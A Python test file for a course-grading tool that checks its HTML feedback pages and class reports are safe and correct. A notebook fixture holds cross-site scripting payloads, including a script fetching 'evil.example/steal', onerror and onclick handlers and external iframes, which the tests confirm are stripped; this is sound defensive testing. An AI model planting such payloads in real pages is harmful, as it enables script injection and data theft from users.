"""The HTML pages as pure functions: results and a notebook in, a safe page out."""

from __future__ import annotations

import re

import pytest

from nncourse.checks.results import SubmissionResult, TestResult
from nncourse.reporting.class_summary import mistake_ranking, summarize

pytest.importorskip("nbconvert")


def _md(text: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": text}


def _code(text: str, outputs=()) -> dict:
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": list(outputs), "source": text}


HOSTILE_NOTEBOOK = {
    "nbformat": 4, "nbformat_minor": 5, "metadata": {},
    "cells": [
        _md("# Title\n<script>fetch('https://evil.example/steal')</script><img src=\"https://evil.example/x.png\" onerror=\"alert(1)\">"),
        _md("## 1. First / 第一题\n$C = \\frac{1}{2n}\\sum_i e_i^2$ <iframe src=\"https://evil.example\"></iframe>"),
        _code("def alpha_fn(x):\n    return x + 1", [{"output_type": "display_data", "metadata": {},
                                               "data": {"text/html": "<b onclick=\"x()\">hi</b><script>alert(2)</script>",
                                                        "text/plain": "hi"}}]),
        _md("## 2. Second / 第二题\n<link rel=\"stylesheet\" href=\"https://evil.example/a.css\"> ![pic](local.png)"),
        _code("def beta_fn(x):\n    return 2 * x"),
    ],
}


def _result(*tests: TestResult, ident: str = "s1") -> SubmissionResult:
    return SubmissionResult(ident, "demo", tests=tests)


def _test(question: str, name: str, passed: bool, output: str = "", detail: str = "", mistakes=(), status=None) -> TestResult:
    return TestResult(f"{question} / {name}", question, 1.0 if passed else 0.0, 1.0, status or ("passed" if passed else "failed"),
                      "passed" if passed else output, detail=detail or output, mistakes=tuple(mistakes))


def test_feedback_page_is_safe_and_places_each_question():
    from nncourse.reporting.html_feedback import feedback_page

    result = _result(_test("first", "t1", False, "f(1): your value `3` differs / 不符", "f(1): got 3, expected 2 SECRET"),
                     _test("second", "t2", True))
    page = feedback_page(result, HOSTILE_NOTEBOOK, ["first", "second"])
    assert "SECRET" not in page and "expected 2" not in page
    for bad in ("<script", "<iframe", "<link", "onerror", "onclick", "evil.example"):
        assert bad not in page, bad
    assert not re.search(r"""\ssrc=["']?(?!data:)""", page)  # nothing to fetch (local.png included)
    assert "Content-Security-Policy" in page
    assert "\\frac{1}{2n}" in page  # math stays readable TeX
    # block of question 1 after f's cell and before heading 2; block of question 2 at the end
    first, second = page.index('data-question="first"'), page.index('data-question="second"')
    assert page.index("alpha_fn") < first < page.index("2. Second") < page.index("beta_fn") < second


def test_unplaceable_questions_and_no_notebook_still_show_feedback():
    from nncourse.reporting.html_feedback import feedback_page

    result = _result(_test("a", "t", False, "a: your answer `1` is not correct"), _test("b", "t", False, "b: differs"),
                     _test("c", "t", False, "c: differs"))
    for notebook in (None, HOSTILE_NOTEBOOK, {"cells": "not a list"}):  # 3 questions, 2 headings: listed after the notebook
        page = feedback_page(result, notebook, ["a", "b", "c"])
        assert all(f'data-question="{q}"' in page for q in "abc")
        assert "your answer `1` is not correct" in page


def test_error_result_page():
    from nncourse.reporting.html_feedback import feedback_page

    page = feedback_page(SubmissionResult("x", "demo", error="x.ipynb is not a valid notebook"), None)
    assert "Not graded" in page and "not a valid notebook" in page


def test_mistakes_are_counted_once_per_student_and_ranked():
    results = [
        _result(_test("q1", "a", False, mistakes=["sum instead of mean"]), _test("q1", "b", False, mistakes=["sum instead of mean"]),
                ident="s1"),
        _result(_test("q1", "a", False, mistakes=["sum instead of mean"]), _test("q2", "a", False, mistakes=["sign"]), ident="s2"),
        _result(_test("q1", "a", False, mistakes=["forgot ½"]), ident="s3"),
        _result(_test("q2", "a", False, mistakes=["sign"]), _test("q2", "b", True), ident="s4"),
    ]
    ranking = [(m.question, m.mistake, m.students) for m in mistake_ranking(results, ["q1", "q2"])]
    assert ranking == [("q1", "sum instead of mean", 2), ("q1", "forgot ½", 1), ("q2", "sign", 2)]


def test_summary_statistics_and_pending():
    results = [
        _result(_test("q1", "a", True), _test("q2", "a", True), ident="s1"),
        _result(_test("q1", "a", False), _test("q2", "a", False, status="undecided"), ident="s2"),
        SubmissionResult("s3", "demo", error="broken", max_score_hint=2.0),
    ]
    summary = summarize(results, ["q1", "q2"])
    assert summary.scores == (2.0, 0.0) and summary.graded == 2 and summary.submissions == 3
    q1 = summary.questions[0]
    assert (q1.question, q1.mean, q1.stdev, q1.full_marks) == ("q1", 0.5, 0.5, 1)
    assert [(p.submission, p.test) for p in summary.pending] == [("s2", "q2 / a")]
    assert [(p.submission, p.kind) for p in summary.problems] == [("s3", "error")]


def test_class_report_has_plots_inline():
    pytest.importorskip("matplotlib")
    from nncourse.reporting.html_report import class_report

    results = [_result(_test("q1", "a", i % 2 == 0, mistakes=() if i % 2 == 0 else ["m"]), ident=f"s{i}") for i in range(6)]
    page = class_report(summarize(results, ["q1"]), results, {f"s{i}": f"s{i}/feedback.html" for i in range(6)})
    assert page.count("<svg") == 2 and "<?xml" not in page
    assert not re.search(r"(src|href)=\"https?:", page)
    assert 'data-mistake="m" data-students="3"' in page
